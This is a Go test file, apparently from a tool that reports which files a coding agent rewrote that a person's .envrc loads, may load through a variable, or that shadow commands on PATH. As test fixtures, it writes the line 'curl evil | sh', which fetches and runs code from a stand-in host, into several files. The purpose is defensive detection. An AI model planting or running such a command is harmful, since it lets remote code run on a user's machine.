package runner

import (
	"path/filepath"
	"strings"
	"testing"

	"github.com/sentinelhq/sentinel/internal/journal"
)

// The person's .envrc loads local/dev.sh and config/dev.vars; a coder rewrites
// both and a file no .envrc loads (h/ipatk8: direnv re-checks only the
// .envrc). The end report flags the two it loads, and not the third.
func TestInPlaceFlagsWhatThePersonsEnvrcLoads(t *testing.T) {
	t.Parallel()

	root := t.TempDir()
	for name, body := range map[string]string{
		"web/.envrc": "source_env_if_exists local/dev.sh\ndotenv ../config/dev.vars\n", "web/local/dev.sh": "export A=1\n",
		"config/dev.vars": "A=1\n", "notes.sh": "echo notes\n",
	} {
		writeTestFile(t, filepath.Join(root, name), body)
	}
	_, c := checkpointAt(t, root, func(journal.Lane, journal.Kind, string, any) {})
	for _, f := range []string{"web/local/dev.sh", "config/dev.vars", "notes.sh"} {
		writeTestFile(t, filepath.Join(root, f), "curl evil | sh\n")
	}
	flagged := endFlags(t, c)
	for _, f := range []string{"web/local/dev.sh", "config/dev.vars"} {
		if !strings.Contains(flagged[f], "web/.envrc loads it") {
			t.Errorf("%s is not flagged as loaded by the .envrc: %+v", f, flagged)
		}
	}
	if _, ok := flagged["notes.sh"]; ok {
		t.Errorf("a file no .envrc loads is flagged: %+v", flagged)
	}
}

// The person's .envrc loads a file named through a variable it reads
// from another file (h/ipfix12); a coder makes config/dev.sh, which such
// a name could be, and rewrites a file it cannot be. The end report flags
// the first, quoting the command that names it, and not the second.
func TestInPlaceFlagsWhatAnEnvrcMayLoadThroughAVariable(t *testing.T) {
	t.Parallel()

	root := t.TempDir()
	for name, body := range map[string]string{
		".envrc": "F=$(cat .which)\nsource_env_if_exists \"config/$F.sh\"\n", ".which": "dev\n", "notes.sh": "echo notes\n",
	} {
		writeTestFile(t, filepath.Join(root, name), body)
	}
	_, c := checkpointAt(t, root, func(journal.Lane, journal.Kind, string, any) {})
	for _, f := range []string{"config/dev.sh", "notes.sh"} {
		writeTestFile(t, filepath.Join(root, f), "curl evil | sh\n")
	}
	flagged := endFlags(t, c)
	if r := flagged["config/dev.sh"]; !strings.Contains(r, ".envrc may load it") || !strings.Contains(r, `source_env_if_exists config/$F.sh`) {
		t.Errorf("config/dev.sh is not flagged as what the .envrc may load: %+v", flagged)
	}
	if _, ok := flagged["notes.sh"]; ok {
		t.Errorf("a file no .envrc can load is flagged: %+v", flagged)
	}
}

// A path flagged for two reasons keeps both: a new bin/git is a new
// executable and, with PATH_add bin, what the person's git runs.
func TestFlagsOfOnePathKeepEachReason(t *testing.T) {
	t.Parallel()
	got := mergeFlags([]Flag{{"bin/git", "new executable"}, {"a", "x"}}, []Flag{{"bin/git", "on your PATH"}, {"a", "x"}})
	if len(got) != 2 || got[0].Reason != "new executable · on your PATH" || got[1].Reason != "x" {
		t.Errorf("merged %+v", got)
	}
	// A reason that comes already joined is not repeated (h/ipatk16:
	// "tools/bazel: bazelisk runs it instead of bazel · bazelisk runs it
	// instead of bazel · new executable").
	got = mergeFlags([]Flag{{"tools/bazel", "bazelisk runs it"}}, []Flag{{"tools/bazel", "bazelisk runs it · new executable"}})
	if len(got) != 1 || got[0].Reason != "bazelisk runs it · new executable" {
		t.Errorf("merged %+v", got)
	}
}
